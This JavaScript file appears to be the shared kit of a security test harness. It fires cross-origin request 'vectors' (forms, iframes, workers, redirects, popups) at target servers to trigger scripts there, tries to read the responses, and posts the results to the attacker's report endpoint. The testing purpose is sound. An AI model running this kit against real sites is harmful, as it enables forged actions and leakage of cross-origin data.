// Shared code of the attacking pages. A vector is an expression over `aim`. It resolves to the part of the response that
// the page could read.

const kitText = document.currentScript.textContent;
const patienceMs = 5000;

Object.assign(globalThis, {
  attack,
  inside,
  textOf,
  ask,
  element,
  track,
  style,
  submit,
  submitIntoFrame,
  lookInto,
});
Object.assign(globalThis, { listen, inFrame, inWorker, inSharedWorker, inServiceWorker, click, goBackTo });

async function attack({ page, home, targets, scriptId, shots }) {
  const over = [];
  for (const [target, origin] of Object.entries(targets)) {
    for (const [vector, fire] of Object.entries(shots)) {
      const aim = aimOf({ vector, target, origin, home, scriptId });
      over.push(settled(() => fire(aim)).then((read) => ({ vector, target, read: String(read ?? '') })));
    }
  }
  const reads = await Promise.all(over);
  await fetch(`${home}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ page, reads }) });
}

function aimOf(given) {
  const { vector, origin, home, scriptId } = given;
  /** A URL at the target that names the vector; `host` is another spelling of its host. */
  function at(path, host) {
    const { port } = new URL(origin);
    return `${host === undefined ? origin : `http://${host}:${port}`}${path}?vector=${vector}`;
  }
  return {
    ...given,
    at,
    /** A URL of the attacker that redirects to the target. */
    via: (status, path) => `${home}/redirect/${status}?to=${encodeURIComponent(at(path))}`,
    /** The fields that run a script. */
    fields: { script_id: scriptId },
    body: new URLSearchParams({ script_id: scriptId }),
    json: JSON.stringify({ script_id: scriptId }),
  };
}

/** The result of a vector; empty if it fails or does not finish. */
function settled(start) {
  const enough = new Promise((resolve) => setTimeout(resolve, patienceMs, ''));
  return Promise.race([new Promise((resolve) => resolve(start())).catch(() => ''), enough]);
}

function textOf(response) {
  return response.text();
}

function ask(method, url, body, headers = {}) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.onloadend = () => resolve(request.responseText);
    request.send(body);
  });
}

/** Adds an element to the page and waits until its load has finished or failed. */
function element(name, attributes, parent = document.body) {
  const made = document.createElement(name);
  const over = new Promise((resolve) => {
    for (const event of ['load', 'error', 'loadedmetadata']) made.addEventListener(event, () => resolve());
  });
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  parent.append(made);
  return over.then(() => documentTextOf(made));
}

function documentTextOf(made) {
  return made.contentDocument?.body?.innerText ?? '';
}

function track(attributes) {
  const video = document.createElement('video');
  video.crossOrigin = 'anonymous';
  document.body.append(video);
  const over = element('track', { kind: 'metadata', ...attributes }, video);
  video.textTracks[0].mode = 'hidden';
  return over;
}

function style(text) {
  const made = document.createElement('style');
  made.textContent = text;
  document.head.append(made);
}

/** Submits a form. The page itself navigates, unless a target is given. */
function submit(attributes, fields) {
  const form = document.createElement('form');
  for (const [key, value] of Object.entries({ method: 'post', ...attributes })) form.setAttribute(key, value);
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    Object.assign(input, { type: 'hidden', name, value });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
}

function submitIntoFrame(attributes, fields) {
  const frame = document.createElement('iframe');
  frame.name = `frame-${Math.random()}`;
  document.body.append(frame);
  // Listen only now, because the empty frame has already fired its first load event.
  const over = new Promise((resolve) => frame.addEventListener('load', () => resolve()));
  submit({ ...attributes, target: frame.name }, fields);
  return over.then(() => documentTextOf(frame));
}

/** Waits until a window shows a page of another origin, and tries to read it. */
async function lookInto(opened) {
  while (isOurs(opened)) await new Promise((resolve) => setTimeout(resolve, 10));
  return opened.document.body.innerText;
}

function isOurs(opened) {
  try {
    return opened.location.href === 'about:blank';
  } catch {
    return false;
  }
}

function listen(source) {
  return new Promise((resolve) => {
    source.onopen = () => resolve('opened');
    source.onmessage = ({ data }) => resolve(data);
    source.onerror = () => {
      source.close();
      resolve('');
    };
  });
}

/** Runs the source of a function in a frame: `srcdoc`, `data` or `blob`, with or without a sandbox. */
function inFrame({ kind, sandbox }, { vector, target, origin, home, scriptId }, fire) {
  const given = { vector, target, origin, home, scriptId };
  const text = `<body><script>${kitText}</${'script'}><script>inside(${JSON.stringify(given)}, ${fire})</${'script'}>`;
  const frame = document.createElement('iframe');
  if (sandbox !== undefined) frame.setAttribute('sandbox', sandbox);
  if (kind === 'srcdoc') frame.srcdoc = text;
  else if (kind === 'data') frame.src = `data:text/html;charset=utf-8,${encodeURIComponent(text)}`;
  else frame.src = URL.createObjectURL(new Blob([text], { type: 'text/html' }));
  const over = new Promise((resolve) => {
    let loads = 0;
    frame.onload = () => {
      loads++;
      // The second load is the target of the form inside the frame.
      if (loads === 2) resolve(documentTextOf(frame));
    };
    addEventListener('message', ({ source, data }) => {
      if (source === frame.contentWindow) resolve(data);
    });
  });
  document.body.append(frame);
  return over;
}

async function inside(given, fire) {
  // A form submitted before the frame has loaded replaces that load, and the second load event would never come.
  await new Promise((resolve) => addEventListener('load', () => setTimeout(resolve)));
  const read = await settled(() => fire(aimOf(given)));
  if (read !== undefined) parent.postMessage(read, '*');
}

/** Runs the source of a function with a URL in a worker. */
function inWorker(fire, url) {
  const text = `Promise.resolve((${fire})(${JSON.stringify(url)})).catch(() => '').then((read) => postMessage(read))`;
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  return new Promise((resolve) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve('');
  });
}

function inSharedWorker(aim, url) {
  const { port } = new SharedWorker(`${aim.home}/shared-worker.js`);
  return new Promise((resolve) => {
    port.onmessage = ({ data }) => resolve(data);
    port.postMessage(url);
  });
}

async function inServiceWorker(url) {
  const { installing, active } = await navigator.serviceWorker.register('/service-worker.js');
  const { port1, port2 } = new MessageChannel();
  (active ?? installing).postMessage(url, [port2]);
  return new Promise((resolve) => {
    port1.onmessage = ({ data }) => resolve(data);
  });
}

/** Opens a URL in a new window, then lets a page of the attacker go back to it. */
async function goBackTo(url, home) {
  const opened = open(url);
  while (isOurs(opened)) await new Promise((resolve) => setTimeout(resolve, 10));
  opened.location = `${home}/back`;
}

/** Clicks a link. */
function click(attributes) {
  const link = document.createElement('a');
  for (const [key, value] of Object.entries(attributes)) link.setAttribute(key, value);
  document.body.append(link);
  link.click();
}
